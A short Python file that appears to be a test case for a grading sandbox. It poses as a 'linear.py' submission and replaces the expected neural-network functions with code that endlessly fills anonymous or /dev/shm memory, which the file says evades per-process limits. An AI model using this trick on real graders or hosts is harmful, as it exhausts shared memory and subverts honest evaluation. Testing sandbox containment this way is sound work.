"""Takes memory that no limit on a process counts: in a file without a name, in shared memory.

row: C03
file: linear.py
label: RAISED
holds: L3
seconds: 10
"""

import os

NAMES = ("linear_forward", "linear_backward", "relu_forward", "relu_backward", "softmax_cross_entropy")


def take(*arguments, **named):
    """Fill a file in memory."""
    try:
        file = os.memfd_create("x")
    except OSError:
        file = os.open("/dev/shm/x", os.O_CREAT | os.O_RDWR)
    while True:
        os.write(file, bytes(2**20))


def trick():
    """Do it in every call."""
    globals().update(dict.fromkeys(NAMES, take))


globals().update(dict.fromkeys(NAMES, lambda *arguments, **named: None))
trick()
